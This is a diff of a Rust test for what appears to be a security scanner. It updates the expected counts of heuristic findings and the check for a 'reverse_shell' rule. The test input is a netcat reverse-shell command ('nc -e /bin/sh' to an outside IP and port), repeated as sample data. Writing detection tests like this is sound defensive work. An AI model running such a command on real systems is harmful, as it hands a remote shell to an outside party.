@@ -112,13 +112,13 @@ fn many_heuristic_findings_are_counted_and_do_not_stop_the_search() {
     let mut found = Vec::new();
     let file = scan("a.sh", lines.as_bytes(), &mut found);
     assert!(!file.truncated);
-    assert_eq!(found.len(), 11);
+    assert_eq!(found.len(), 6);
     assert!(
-        found[9].message.contains("490 more in this file"),
+        found[4].message.contains("495 more in this file"),
         "{}",
-        found[9].message
+        found[4].message
     );
-    assert_eq!(found[10].rule, "reverse_shell");
+    assert_eq!(found[5].rule, "reverse_shell");
     let lines = expand("nc{} -e /bin/sh 198.51.100.7 4444\n").repeat(500);
     let mut found = Vec::new();
     let file = scan("a.sh", lines.as_bytes(), &mut found);
